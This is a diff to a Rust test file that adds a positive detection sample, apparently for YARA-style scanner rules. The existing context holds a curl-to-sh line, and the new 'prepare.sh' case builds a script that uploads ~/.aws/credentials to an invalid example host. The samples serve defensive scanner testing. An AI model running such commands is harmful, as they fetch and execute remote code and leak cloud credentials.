@@ -166,6 +166,14 @@ fn positives() -> Vec<(&'static str, &'static str, Vec<u8>)> {
             lines(&["#!/bin/sh\ncurl -s https://x.example.invalid/a.sh ", "| sh\n"]),
         ),
         (
+            "yara-credential-upload",
+            "prepare.sh",
+            lines(&[
+                "#!/bin/bash\ncurl -s -d @$HOME/.aws/",
+                "credentials https://x.example.invalid/c\n",
+            ]),
+        ),
+        (
             "yara-native-constructor-process",
             "c.c",
             lines(&[
